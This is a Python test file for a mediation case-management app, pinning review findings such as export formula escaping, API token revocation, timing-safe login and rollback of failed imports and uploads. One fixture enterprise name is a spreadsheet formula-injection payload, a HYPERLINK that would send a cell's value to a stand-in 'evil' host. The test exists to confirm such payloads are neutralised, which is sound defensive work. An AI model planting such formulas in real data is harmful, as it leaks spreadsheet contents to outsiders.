"""Defects found in review, each pinned: formula injection in exports, API tokens surviving a
password reset or deactivation, a half-written import, the username timing oracle, officers at
grassroots unions, and uploads that fail after their file was stored."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from mediation.accounts import services as accounts
from mediation.accounts.tokens import issue_token, user_for_token
from mediation.cases.models import Attachment, Case
from mediation.core.errors import Conflict, ValidationFailed
from mediation.extensions import db
from tests.api.conftest import Api
from tests.conftest import PASSWORD
from tests.helpers import count


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_never_write_formulas(client, users, make_case, make_enterprise, fmt):
    evil = make_enterprise("G1", name='=HYPERLINK("http://evil/"&A1,"x")')
    make_case(enterprise_id=evil.id, title="=1+2")
    make_case(title="@SUM(1)")
    response = Api(client).get(f"/cases/export?format={fmt}", as_=users["mediator"])
    assert response.status_code == 200
    if fmt == "csv":
        cells = [
            c for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for c in row
        ]
    else:
        sheet = load_workbook(io.BytesIO(response.data)).active
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
    assert "'=1+2" in cells and "'@SUM(1)" in cells


def test_a_password_reset_or_deactivation_revokes_api_tokens(users):
    admin, mediator = users["admin"], users["mediator"]
    token = issue_token(mediator.username, PASSWORD)[0]
    accounts.reset_password(admin, mediator.id, "a-new-password-1")
    assert user_for_token(token) is None

    token = issue_token(mediator.username, "a-new-password-1")[0]
    accounts.set_active(admin, mediator.id, False)
    accounts.set_active(admin, mediator.id, True)
    assert user_for_token(token) is None  # reactivation does not bring it back


def test_unknown_usernames_cost_a_password_check(app, users, monkeypatch):
    calls = []
    import mediation.accounts.services as module

    real = module.check_password_hash
    monkeypatch.setattr(module, "check_password_hash", lambda *a: calls.append(1) or real(*a))
    assert accounts.authenticate("nobody-at-all", "guess") is None
    users["advocate"].active = False
    db.session.commit()
    assert accounts.authenticate("advocate", PASSWORD) is None
    assert len(calls) == 2


def test_officers_sit_at_a_town_or_the_city(users, orgs):
    with pytest.raises(ValidationFailed) as refused:
        accounts.create_user("g1_officer", role="officer", org_code="G1", password="long-enough-1")
    assert "role" in refused.value.fields
    assert (
        accounts.create_user(
            "t1_officer2", role="officer", org_code="T1", password="long-enough-1"
        ).role.value
        == "officer"
    )


def test_an_import_row_with_nul_is_bad_and_nothing_is_written(
    app, tmp_path, users, make_enterprise
):
    e = make_enterprise("G1")
    header = "类型,案由,统一社会信用代码,诉求,涉及人数,请求金额,欠薪月数,收到申请时间\n"
    data = header + (
        f"dispute,dismissal,{e.credit_code},好行,1,,,2026-03-02\n"
        f"dispute,dismissal,{e.credit_code},坏\x00行,1,,,2026-03-02\n"
    )
    path = tmp_path / "nul.csv"
    path.write_bytes(data.encode("utf-8"))
    result = app.test_cli_runner().invoke(args=["cases", "import", str(path), "--as", "mediator"])
    assert result.exit_code == 1
    assert "3" in result.output  # the line of the bad row
    assert count(Case) == 0


def test_an_import_that_fails_while_writing_keeps_nothing(
    app, tmp_path, users, make_enterprise, monkeypatch
):
    from mediation.cases import importer, services

    e = make_enterprise("G1")
    header = "类型,案由,统一社会信用代码,诉求,涉及人数,请求金额,欠薪月数,收到申请时间\n"
    rows = "".join(f"dispute,dismissal,{e.credit_code},第{i}行,1,,,2026-03-02\n" for i in range(3))
    checked = importer.check(users["mediator"], (header + rows).encode("utf-8"))
    assert not checked.errors and len(checked.rows) == 3
    real, calls = services.create_case, []

    def flaky(user, payload, **kw):
        calls.append(1)
        if len(calls) == 3:
            raise Conflict("a concurrent change won; reload and try again")
        return real(user, payload, **kw)

    monkeypatch.setattr(services, "create_case", flaky)
    result = importer.run(users["mediator"], checked)
    assert result.failure and "nothing was imported" in result.failure
    assert result.numbers == []
    assert count(Case) == 0


def test_an_upload_whose_transaction_fails_leaves_no_file(app, users, make_case, monkeypatch):
    from pathlib import Path

    from mediation.cases import attachments

    case = make_case()

    def refuse(*args, **kwargs):
        raise Conflict("a concurrent change won; reload and try again")

    monkeypatch.setattr(attachments, "append_event", refuse)
    with pytest.raises(Conflict):
        attachments.add_attachment(
            case.id, users["mediator"], io.BytesIO(b"%PDF-1.4 evidence"), "合同.pdf"
        )
    assert count(Attachment) == 0
    storage = Path(app.config["ATTACHMENT_FOLDER"])
    assert not [p for p in storage.rglob("*") if p.is_file()]
    assert db.session.scalar(select(Attachment.id)) is None
